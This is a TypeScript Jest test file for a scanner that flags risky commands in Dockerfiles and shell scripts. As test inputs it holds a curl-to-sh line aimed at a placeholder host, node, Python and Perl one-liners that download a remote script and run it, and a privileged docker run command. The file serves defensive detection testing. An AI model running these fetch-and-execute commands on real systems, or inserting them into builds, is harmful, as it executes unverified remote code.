import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { scanFiles } from '../properties/soundness.ts';
import { halved } from '../support/heavy.ts';

/** The rows of a file, with empty lines between them. */
function rowsOf(name: string): readonly string[] {
  return readFileSync(new URL(`given-commands/${name}`, import.meta.url), 'utf8')
    .trim()
    .split('\n\n');
}

const ALL = rowsOf('run.txt');
/** Four scans read each of them. */
const RUN = halved(ALL, 0);
const NOT_RUN = rowsOf('not-run.txt');
const FETCHES = 'curl -s http://get.example.com/a|sh';
const HARMLESS = 'ls /a|wc -l';
const PRIVILEGED = 'docker run --privileged nginx:1.29';

const TOLD = /^(?:remote-script-exec|download-unverified|obfuscated-exec|cleartext-fetch|privileged)$/;

/** What a scan of one file for each text reports, by the index of the text. */
async function toldOf(texts: readonly string[], name: string): Promise<ReadonlyMap<number, readonly string[]>> {
  const files = Object.fromEntries(texts.map((text, index) => [`${index}/${name}`, text]));
  const { findings, notifications } = await scanFiles(files);
  const told = new Map<number, string[]>();
  const add = (path: string | undefined, what: string): void => {
    const index = Number(path?.split('/')[0]);
    told.set(index, [...(told.get(index) ?? []), what]);
  };
  for (const { ruleId, span } of findings) if (TOLD.test(ruleId)) add(span.file.path, ruleId);
  for (const { gap, span } of notifications)
    if (gap !== undefined && gap.weight !== 'expected') add(span?.file.path, gap.kind);
  return told;
}

const dockerfile = (lines: string): string => `FROM debian:12\n${lines}\nUSER 1000\n`;
const withCommand = (command: string): readonly string[] => RUN.map((row) => row.replaceAll('@P@', command));
/** Rows for a script: no other instructions, no list of words, and without files that are for a build only. */
const SCRIPTS = RUN.filter((row) => /^RUN [^[]/.test(row) && !/\nRUN |apt\.conf|system2|^RUN TAR_OPTIONS/.test(row));
const scripts = (command: string): readonly string[] =>
  SCRIPTS.map((row) => `#!/bin/bash\n${row.slice('RUN '.length).replaceAll('@P@', command)}\n`);

function missing(rows: readonly string[], told: ReadonlyMap<number, readonly string[]>, rule: string): string[] {
  return rows.filter((_, index) => !told.get(index)?.includes(rule));
}

function suspected(rows: readonly string[], told: ReadonlyMap<number, readonly string[]>): string[] {
  return rows.flatMap((row, index) => (told.has(index) ? [`${row} ${told.get(index)}`] : []));
}

describe('commands that a program is given', () => {
  it('has enough rows', () => {
    expect(ALL.length).toBeGreaterThanOrEqual(370);
    expect(NOT_RUN.length).toBeGreaterThanOrEqual(120);
  });

  it('are read in a Dockerfile', async () => {
    const told = await toldOf(withCommand(FETCHES).map(dockerfile), 'Dockerfile');
    expect(missing(RUN, told, 'remote-script-exec')).toEqual([]);
  });

  it('are not suspected in a Dockerfile', async () => {
    expect(suspected(RUN, await toldOf(withCommand(HARMLESS).map(dockerfile), 'Dockerfile'))).toEqual([]);
    expect(suspected(NOT_RUN, await toldOf(NOT_RUN.map(dockerfile), 'Dockerfile'))).toEqual([]);
  });

  it('are read in a script', async () => {
    expect(missing(SCRIPTS, await toldOf(scripts(PRIVILEGED), 'up.sh'), 'privileged')).toEqual([]);
  });

  it('are not suspected in a script', async () => {
    expect(suspected(SCRIPTS, await toldOf(scripts('docker ps -a'), 'up.sh'))).toEqual([]);
  });

  it.each([
    ['node -e', `node -e "https.get('https://get.example.com/a', r => r.pipe(fs.createWriteStream('/t.sh')))"`],
    [
      'fetch',
      `node -e "fetch('https://get.example.com/a').then(r => r.text()).then(t => fs.writeFileSync('/t.sh', t))"`,
    ],
    ['Python', `python3 -c "open('/t.sh', 'w').write(requests.get('https://get.example.com/a').text)"`],
    ['Perl', `perl -e 'use LWP::Simple; $x = get("https://get.example.com/a"); open(F, ">", "/t.sh"); print F $x'`],
  ])('are the files that code saves: %s', async (_name, code) => {
    const told = await toldOf([`RUN ${code} && sh /t.sh`, `RUN ${code} && sh /other.sh`].map(dockerfile), 'Dockerfile');
    expect(told.get(0)).toContain('download-unverified');
    expect(told.get(1)).toBeUndefined();
  });
});
